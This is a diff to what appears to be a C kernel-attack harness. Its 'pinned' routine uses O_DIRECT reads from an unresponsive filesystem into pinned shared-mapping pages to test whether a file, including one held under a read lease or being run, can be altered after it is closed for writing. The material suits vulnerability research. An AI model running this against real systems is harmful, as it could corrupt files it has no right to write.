@@ -1,6 +1,6 @@
-// pinned FILE SOURCE COUNT [lease | run]: has COUNT reads past the cache from SOURCE, whose filesystem does not answer, go to a shared mapping of FILE, which is then
-// unmapped, and closed for writing. The pages stay pinned, and each answered read makes them dirty, when nobody can write them back. After a line it
-// maps FILE again, by a file that it has had open for reading, and says how many pages can be touched. It says “answered” when all reads are.
+// pinned FILE PLACE SOURCE COUNT [lease | run]: has COUNT reads past the cache from SOURCE, whose filesystem does not answer, go to a shared mapping
+// of FILE from PLACE on, which is then unmapped, and closed for writing. The pages stay pinned, and each answered read makes them dirty, when nobody can write them back. After a line it
+// maps FILE again, by a file that it has had open for reading, and says how many pages show what was there. It says “answered” when all reads are.
 // With “lease” it has a lease for reading, which it gives up after the second line; with “run” a process that runs from FILE until then.
 #include "attacker.h"
 #include <errno.h>
@@ -19,7 +19,7 @@
 
 enum { PAGE = 4096, PAGES = 16 };
 static sigjmp_buf back;
-static char *memory;
+static char *memory, former[PAGES * PAGE];
 static int source, count_of_reads;
 static atomic_int answered;
 
@@ -36,19 +36,20 @@ static void *read_source(void *unused) {
 }
 
 int attack_pinned(int count, char **arguments) {
-    if (count != 3 && count != 4) return 2;
+    if (count != 4 && count != 5) return 2;
     int kept = open(arguments[0], O_RDONLY | O_CLOEXEC);
     int file = open(arguments[0], O_RDWR | O_CLOEXEC);
     if (kept < 0 || file < 0) attack_failed(arguments[0]);
-    source = open(arguments[1], O_RDONLY | O_DIRECT | O_CLOEXEC);
-    if (source < 0) attack_failed(arguments[1]);
-    memory = mmap(NULL, PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
+    source = open(arguments[2], O_RDONLY | O_DIRECT | O_CLOEXEC);
+    if (source < 0) attack_failed(arguments[2]);
+    off_t place = atol(arguments[1]);
+    memory = mmap(NULL, PAGES * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, file, place);
     if (memory == MAP_FAILED) attack_failed("mmap");
-    for (int page = 0; page < PAGES; page++) (void)((volatile char *)memory)[page * PAGE];
+    memcpy(former, memory, sizeof former);
     pthread_attr_t small;
     pthread_attr_init(&small);
     pthread_attr_setstacksize(&small, 65536);
-    count_of_reads = atoi(arguments[2]);
+    count_of_reads = atoi(arguments[3]);
     for (int number = 0; number < count_of_reads; number++) {
         pthread_t thread;
         if ((errno = pthread_create(&thread, &small, read_source, NULL))) attack_failed("pthread_create");
@@ -61,8 +62,8 @@ int attack_pinned(int count, char **arguments) {
     close(file);
     signal(SIGIO, SIG_IGN);
     pid_t process = 0;
-    if (count == 4 && !strcmp(arguments[3], "lease") && fcntl(kept, F_SETLEASE, F_RDLCK)) attack_failed("lease");
-    if (count == 4 && !strcmp(arguments[3], "run")) {
+    if (count == 5 && !strcmp(arguments[4], "lease") && fcntl(kept, F_SETLEASE, F_RDLCK)) attack_failed("lease");
+    if (count == 5 && !strcmp(arguments[4], "run")) {
         char *words[] = {"sleep", "600", NULL};
         if ((errno = posix_spawn(&process, arguments[0], NULL, NULL, words, NULL))) attack_failed("posix_spawn");
         // It has loaded what it needs when it sleeps.
@@ -73,12 +74,12 @@ int attack_pinned(int count, char **arguments) {
     int lines = 0;
     while (attack_wait()) {
         volatile int found = 0;
-        volatile char *again = mmap(NULL, PAGES * PAGE, PROT_READ, MAP_SHARED, kept, 0);
+        volatile char *again = mmap(NULL, PAGES * PAGE, PROT_READ, MAP_SHARED, kept, place);
         if (again != MAP_FAILED)
             for (volatile int page = 0; page < PAGES; page++)
                 if (!sigsetjmp(back, 1)) {
-                    (void)again[page * PAGE];
-                    found++;
+                    // The reads change the first bytes.
+                    found += !memcmp((const char *)again + page * PAGE + PAGE / 2, former + page * PAGE + PAGE / 2, PAGE / 2);
                 }
         printf("%d pages\n", found);
         fflush(stdout);
